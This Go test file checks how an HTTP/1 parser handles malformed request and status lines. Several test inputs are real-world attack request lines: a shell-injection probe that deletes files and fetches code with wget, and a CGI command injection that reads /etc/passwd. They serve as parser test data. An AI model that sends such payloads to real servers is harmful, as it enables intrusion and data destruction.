package http1

import (
	"strings"
	"testing"

	"github.com/apitap/apitap/flow"
)

// TestLooseStartLines: the start-line leniencies of docs/http.md
// ("Leniency"), each side split at every offset and byte by byte
// (opsSplits), with the flag and the parts of the line checked.
func TestLooseStartLines(t *testing.T) {
	type want struct {
		method, target, proto, reason string
		status                        int
		malformed                     bool
	}
	tests := []struct {
		name      string
		request   bool
		midstream bool
		in        string
		want      []want
	}{
		{name: "SP in target (bug-5437)", request: true,
			in:   "GET /shell?cd+/tmp;rm+-rf+*;wget+ http://x/y HTTP/1.1\r\nHost: h\r\n\r\nGET /ok HTTP/1.1\r\n\r\n",
			want: []want{{method: "GET", target: "/shell?cd+/tmp;rm+-rf+*;wget+ http://x/y", proto: "HTTP/1.1", malformed: true}, {method: "GET", target: "/ok", proto: "HTTP/1.1"}}},
		{name: "SP in target (WebattackRCE)", request: true,
			in:   "GET /cgi-bin/handler/netsonar;cat /etc/passwd|?data=Download HTTP/1.1\r\n\r\n",
			want: []want{{method: "GET", target: "/cgi-bin/handler/netsonar;cat /etc/passwd|?data=Download", proto: "HTTP/1.1", malformed: true}}},
		{name: "version-like words inside the target", request: true,
			in:   "GET /a HTTP/1.1x HTTP/1. b HTTP/1.0\n\n",
			want: []want{{method: "GET", target: "/a HTTP/1.1x HTTP/1. b", proto: "HTTP/1.0", malformed: true}}},
		{name: "double SP after the method", request: true,
			in:   "GET  /a HTTP/1.1\r\n\r\n",
			want: []want{{method: "GET", target: "/a", proto: "HTTP/1.1", malformed: true}}},
		{name: "an inner strict request line wins", request: true,
			in:   "x /GET /a HTTP/1.1\r\n\r\n",
			want: []want{{method: "GET", target: "/a", proto: "HTTP/1.1"}}},
		{name: "SP target at the resync point (midstream)", request: true, midstream: true,
			in:   "GET /a b HTTP/1.1\r\n\r\nGET . HTTP/1.0\r\n\r\n",
			want: []want{{method: "GET", target: "/a b", proto: "HTTP/1.1", malformed: true}, {method: "GET", target: ".", proto: "HTTP/1.0"}}},
		{name: "Nikto GET . at the resync point", request: true, midstream: true,
			in:   "GET . HTTP/1.0\r\n\r\n",
			want: []want{{method: "GET", target: ".", proto: "HTTP/1.0"}}},
		{name: "no version: not a request line", request: true,
			in:   "GET /a b\r\n\r\nGET /ok HTTP/1.1\r\n\r\n",
			want: []want{{method: "GET", target: "/ok", proto: "HTTP/1.1"}}},
		{name: "HTTP/1.2 and HTTP/2.0 status lines",
			in: "HTTP/1.2 200 ok\r\nContent-Length: 1\r\n\r\nxHTTP/2.0 204 ok\r\n\r\nHTTP/1.0 200 ok\r\nContent-Length: 0\r\n\r\n",
			want: []want{{proto: "HTTP/1.2", status: 200, reason: "ok", malformed: true}, {proto: "HTTP/2.0", status: 204, reason: "ok", malformed: true},
				{proto: "HTTP/1.0", status: 200, reason: "ok"}}},
		{name: "two SP before the status",
			in:   "HTTP/1.1  200 ok\r\nContent-Length: 0\r\n\r\n",
			want: []want{{proto: "HTTP/1.1", status: 200, reason: "ok", malformed: true}}},
		{name: "bare CR in the reason becomes SP",
			in:   "HTTP/1.1 200 \rTransfer-Encoding:chunked\r\nContent-Length: 2\r\n\r\nab",
			want: []want{{proto: "HTTP/1.1", status: 200, reason: " Transfer-Encoding:chunked", malformed: true}}},
		{name: "status still needs three digits",
			in:   "HTTP/1.1  20 x\r\n\r\nHTTP/1.3 2000\r\n\r\nHTTP/1.1 204 ok\r\n\r\n",
			want: []want{{proto: "HTTP/1.1", status: 204, reason: "ok"}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := opsSplits(t, tc.request, tc.midstream, []string{"GET", "GET", "GET"}, d(tc.in))
			if len(r.msgs) != len(tc.want) {
				t.Fatalf("got %d messages want %d\n%s", len(r.msgs), len(tc.want), dump(r.msgs))
			}
			for i, w := range tc.want {
				m := r.msgs[i]
				if m.Method != w.method || m.Target != w.target || m.Proto != w.proto || m.Status != w.status ||
					!tc.request && m.Reason != w.reason || m.Flags.Has(flow.FlagMalformed) != w.malformed {
					t.Errorf("[%d] got %s want %+v", i, m, w)
				}
			}
		})
	}
}

// TestDetectLoose: Detect accepts what the parser accepts at a line start.
func TestDetectLoose(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want Kind
	}{
		{"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://x/y HTTP/1.1\r\n", KindRequest},
		{"GET /cgi-bin/a;cat /etc/passwd|?d=x HTTP/1.1\r\n", KindRequest},
		{"GET . HTTP/1.0\r\n", KindRequest},
		{"GET /a b", KindUnknown},
		{"GET /a b\r\n", KindNotHTTP},
		{"get /a b HTTP/1.1\r\n", KindNotHTTP},
		{"GET /a \x01 HTTP/1.1\r\n", KindNotHTTP},
		{"\x16\x03\x01\x02\x00 HTTP/1.1\r\n", KindNotHTTP},
		{"GET " + strings.Repeat("a ", 5000), KindNotHTTP},
	} {
		if got := Detect([]byte(tc.in)); got != tc.want {
			t.Errorf("Detect(%q) = %v want %v", trunc(tc.in, 40), got, tc.want)
		}
	}
}
